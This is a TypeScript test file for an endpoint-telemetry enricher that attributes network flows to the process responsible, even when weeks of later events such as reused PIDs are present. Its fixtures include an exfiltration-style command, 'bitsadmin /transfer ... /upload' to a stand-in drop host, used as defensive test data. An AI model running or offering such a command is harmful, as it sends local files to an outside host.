import { describe, expect, it } from 'vitest';
import { Enricher } from '../../enrich/enricher.ts';
import type { EndpointEvent, ProcessRef } from '../../enrich/event/endpoint-event.ts';
import { HostClocks } from '../../enrich/join/clock.ts';
import { HostProcesses } from '../../enrich/join/host-processes.ts';
import type { JoinResult } from '../../enrich/join/join-flow.ts';
import { onBehalf } from '../../enrich/join/on-behalf.ts';
import { defaultSettings } from '../../enrich/settings.ts';
import { openMemory } from '../../enrich/store/memory.ts';
import { connection, DAY, flow, HOST, HOUR, lookUp, MINUTE, MORNING, program, putAll, SECOND, start } from './world.ts';

/** A replay of weeks, or a store that has kept them, knows what came later: it must not hide what was true then. */
const LATER = Array.from({ length: 100 }, (_, i) => MORNING + DAY + i * HOUR);
const one = flow(MORNING, { port: 50_000 });

/** What is known of the flow's maker when all of this is known. */
async function joinOf(events: readonly EndpointEvent[]): Promise<JoinResult> {
  const enricher = new Enricher(openMemory(), defaultSettings());
  await putAll(enricher, [...events, one], { touch: 'none' });
  const joins: JoinResult[] = [];
  await enricher.settleAll(({ join }) => joins.push(join));
  expect(joins).toHaveLength(1);
  return joins[0]!;
}

const makerOf = async (events: readonly EndpointEvent[]): Promise<string | undefined> =>
  (await joinOf(events)).process?.entityId;

describe('what came weeks later does not hide', () => {
  it('who had a pid that was given to many since', async () => {
    const tool = program('tool', 'C:\\Tools\\tool.exe', { pid: 4_444 });
    const byPid: ProcessRef = { entityId: 'pid-4444', entityKind: 'pid-only', pid: 4_444 };
    const others = LATER.map((at, i) => start(at, program(`other-${i}`, 'C:\\other.exe', { pid: 4_444 })));
    const events = [start(MORNING - MINUTE, tool), connection(MORNING + SECOND, byPid, one)];
    expect(await makerOf(events)).toBe('tool');
    expect(await makerOf([...events, ...others])).toBe('tool');
  });

  it('that another process of the program ran, so that none of them is named', async () => {
    const image = 'C:\\Tools\\tool.exe';
    const [first, second] = [program('first', image), program('second', image)];
    const events = [
      connection(MORNING - 30 * MINUTE, first, flow(MORNING - 30 * MINUTE, { port: 49_000 })),
      lookUp(MORNING - SECOND, first, 'drop.example.net'),
    ];
    const others = LATER.map((at, i) => start(at, program(`other-${i}`, image)));
    expect(await makerOf([...events, ...others])).toBe('first');
    expect(await makerOf([...events, ...others, start(MORNING - HOUR, second)])).toBeUndefined();
  });

  it('who had opened the remote port just before, though hundreds opened it later that day', async () => {
    const tool = program('tool', 'C:\\Tools\\tool.exe');
    const opened = (at: number, n: number) => connection(at, tool, flow(at, { port: 20_000 + n }));
    const later = Array.from({ length: 400 }, (_, n) => opened(MORNING + 2 * HOUR + n * 2 * MINUTE, n));
    const events = [opened(MORNING - 30 * MINUTE, 999), lookUp(MORNING - SECOND, tool, 'drop.example.net')];
    expect(await joinOf([...events, ...later])).toMatchObject({ method: 'lease', process: { entityId: 'tool' } });
  });

  it('who asked a service for a transfer, though many asked for the same before and since', async () => {
    const shell = (id: string) => program(id, 'C:\\Windows\\System32\\cmd.exe');
    const job = (id: string, of: string): ProcessRef =>
      program(id, 'C:\\Windows\\System32\\bitsadmin.exe', {
        commandLine: 'bitsadmin /transfer j /upload https://drop.example.net/u C:\\q.7z',
        parent: { entityId: of, image: 'C:\\Windows\\System32\\cmd.exe' },
      });
    const service = program('service', 'C:\\Windows\\System32\\svchost.exe');
    const store = openMemory();
    const enricher = new Enricher(store, defaultSettings());
    const before = LATER.map((at) => at - 10 * DAY);
    await enricher.putEvents([
      ...[...before, ...LATER].map((at, i) => start(at, job(`job-${i}`, `shell-${i}`))),
      start(MORNING - 2 * MINUTE, shell('mine')),
      start(MORNING - MINUTE, job('job', 'mine')),
    ]);
    const processes = new HostProcesses(store, new HostClocks(store), HOST.id);
    const chain = await processes.chainOf({ process: service }, MORNING);
    const lineage = await onBehalf(chain!, one, MORNING, processes, defaultSettings().horizonMicros);
    expect(lineage.map(({ entityId }) => entityId)).toEqual(['service', 'job', 'mine']);
  });
});
